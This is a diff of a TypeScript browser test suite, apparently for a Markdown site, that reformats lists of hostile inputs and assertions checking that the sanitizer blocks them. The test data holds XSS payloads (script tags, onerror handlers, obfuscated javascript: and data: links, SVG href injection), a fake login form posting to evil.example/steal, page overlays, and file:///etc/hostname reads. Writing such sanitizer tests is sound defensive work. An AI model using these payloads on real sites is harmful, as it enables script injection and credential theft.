@@ -36,11 +36,20 @@ const accepted: [string, string][] = [
   ["escaped script tags in a heading", `## \\<script>${SCRIPT_RAN}\\</script>\n\nText.`],
   ["an image with a handler in inline code", `Text med \`<img src=x onerror="${SCRIPT_RAN}">\` i kod.`],
   ["script and iframe in a code block", `\`\`\`html\n<script>${SCRIPT_RAN}</script>\n<iframe src="https://evil.example"></iframe>\n\`\`\``],
-  ["HTML written with character references", `&lt;script&gt;${SCRIPT_RAN}&lt;/script&gt; och &#60;b onclick="${SCRIPT_RAN}"&#62;klick&#60;/b&#62;`],
+  [
+    "HTML written with character references",
+    `&lt;script&gt;${SCRIPT_RAN}&lt;/script&gt; och &#60;b onclick="${SCRIPT_RAN}"&#62;klick&#60;/b&#62;`,
+  ],
   ["a link title that tries to break out of its attribute", `[titel](https://www.flen.se "\\" onmouseover=\\"${SCRIPT_RAN}")`],
   ["a script in a link's query string", `[frågetecken](https://evil.example/?q=<script>${SCRIPT_RAN}</script>)`],
-  ["autolinked addresses with javascript: and quotes", `www.evil.example/javascript:${SCRIPT_RAN} och https://evil.example/"onmouseover=${SCRIPT_RAN}`],
-  ["escaped style and a closing tag in table cells", `| a | b |\n|---|---|\n| \\<style>body{display:none}\\</style> | \`</td><script>${SCRIPT_RAN}</script>\` |`],
+  [
+    "autolinked addresses with javascript: and quotes",
+    `www.evil.example/javascript:${SCRIPT_RAN} och https://evil.example/"onmouseover=${SCRIPT_RAN}`,
+  ],
+  [
+    "escaped style and a closing tag in table cells",
+    `| a | b |\n|---|---|\n| \\<style>body{display:none}\\</style> | \`</td><script>${SCRIPT_RAN}</script>\` |`,
+  ],
   ["a mailto: link with a script in its subject", `[e-post](mailto:kontakt@flen.se?subject=<script>${SCRIPT_RAN}</script>)`],
 ];
 
@@ -51,19 +60,34 @@ const refused: [string, string][] = [
     "a full-page fixed overlay with a login link",
     '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#fff"><a href="https://evil.example/login" style="display:block;width:100%;height:100%;font-size:40px">Logga in igen</a></div>',
   ],
-  ["style element", "<style>a { position: fixed; inset: 0; z-index: 9999 } body { visibility: hidden }</style>[länk](https://evil.example)"],
+  [
+    "style element",
+    "<style>a { position: fixed; inset: 0; z-index: 9999 } body { visibility: hidden }</style>[länk](https://evil.example)",
+  ],
   [
     "SVG animate and set turning a link into javascript:",
     `<svg width="100%" height="400"><a><animate attributeName="href" values="javascript:${SCRIPT_RAN}" /><set attributeName="href" to="javascript:${SCRIPT_RAN}" /><rect width="100%" height="100%" fill="red" /><text x="20" y="40">Klicka här</text></a></svg>`,
   ],
-  ["javascript: links with control characters in the scheme", `<a href="java&#x09;script:${SCRIPT_RAN}">tab</a> <a href="&#x01;javascript:${SCRIPT_RAN}">ctrl</a> [md](java&#10;script:${SCRIPT_RAN})`],
-  ["data: links", `<a href="data:text/html,<script>${SCRIPT_RAN}</script>">html</a> [md](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`],
+  [
+    "javascript: links with control characters in the scheme",
+    `<a href="java&#x09;script:${SCRIPT_RAN}">tab</a> <a href="&#x01;javascript:${SCRIPT_RAN}">ctrl</a> [md](java&#10;script:${SCRIPT_RAN})`,
+  ],
+  [
+    "data: links",
+    `<a href="data:text/html,<script>${SCRIPT_RAN}</script>">html</a> [md](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
+  ],
   [
     "a login form",
     `<form action="https://evil.example/steal" method="post"><input name="user" placeholder="Användarnamn"><input name="password" type="password"><button type="submit" formaction="javascript:${SCRIPT_RAN}">Logga in igen</button></form>`,
   ],
-  ["meta refresh and base", '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">[relativ](/praktik/x)'],
-  ["iframe, object and embed", '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.svg">'],
+  [
+    "meta refresh and base",
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">[relativ](/praktik/x)',
+  ],
+  [
+    "iframe, object and embed",
+    '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.svg">',
+  ],
   [
     "files outside content/",
     '[låsfilen](../../package-lock.json) ![värdnamn](/etc/hostname) <img src="../../package-lock.json"> <iframe src="file:///etc/hostname"></iframe> <object data="/etc/hostname"></object> <link rel="stylesheet" href="../../package-lock.json">',
@@ -95,7 +119,9 @@ function practiceWith(body: string): string {
 }
 
 const validationErrors = (body: string) =>
-  checkFile("content/practices/nykoping-fritidsbanken.md", practiceWith(body), validatePractice).problems.filter((p) => p.severity === "error");
+  checkFile("content/practices/nykoping-fritidsbanken.md", practiceWith(body), validatePractice).problems.filter(
+    (p) => p.severity === "error",
+  );
 
 /** Text of files outside content/ that must never reach a page. */
 const secrets = [
@@ -166,7 +192,15 @@ async function exercise(page: Page, baseUrl: string, markdown: string, layers: L
       .filter((element) => getComputedStyle(element).position !== "static")
       .map((element) => element.outerHTML.slice(0, 80));
     const badLinks = Array.from(document.querySelectorAll("[href], [src], [action], [formaction], [data]"))
-      .map((element) => element.getAttribute("href") ?? element.getAttribute("src") ?? element.getAttribute("action") ?? element.getAttribute("formaction") ?? element.getAttribute("data") ?? "")
+      .map(
+        (element) =>
+          element.getAttribute("href") ??
+          element.getAttribute("src") ??
+          element.getAttribute("action") ??
+          element.getAttribute("formaction") ??
+          element.getAttribute("data") ??
+          "",
+      )
       .filter((url) => !/^(?:https?:|mailto:)/i.test(url) && new URL(url, location.href).origin !== location.origin);
     const html = document.documentElement.outerHTML;
     return {
@@ -187,7 +221,10 @@ describe("hostile Markdown in the browser", () => {
     expect(verdict.dialogs, "dialogs").toEqual([]);
     expect(verdict.scriptRan, "script ran").toBe(false);
     expect(verdict.requests, "requests for images, frames, styles or data").toEqual([]);
-    expect(verdict.navigations.filter((url) => !/^https?:\/\//.test(url)), "navigations off the web").toEqual([]);
+    expect(
+      verdict.navigations.filter((url) => !/^https?:\/\//.test(url)),
+      "navigations off the web",
+    ).toEqual([]);
     expect(verdict.covering, "links to other sites covering the page").toEqual([]);
     expect(verdict.positioned, "positioned elements").toEqual([]);
     expect(verdict.badLinks, "links that are not http(s), mailto or to the site itself").toEqual([]);
@@ -200,10 +237,11 @@ describe("hostile Markdown in the browser", () => {
     const verdict = await exercise(page, browser.baseUrl, markdown);
     harmless(verdict);
     // The text is shown as written: what looked like HTML is visible, not interpreted.
-    const text = await page.locator("main").innerText();
+    const text = (await page.locator("main").textContent()) ?? "";
     expect(text).toContain("Före.");
     expect(text).toContain("Efter.");
-    if (markdown.includes("\\<script>") || markdown.includes("&lt;script&gt;") || markdown.includes("```")) expect(text).toContain("<script>");
+    if (markdown.includes("\\<script>") || markdown.includes("&lt;script&gt;") || markdown.includes("```"))
+      expect(text).toContain("<script>");
     await page.context().close();
   });
 
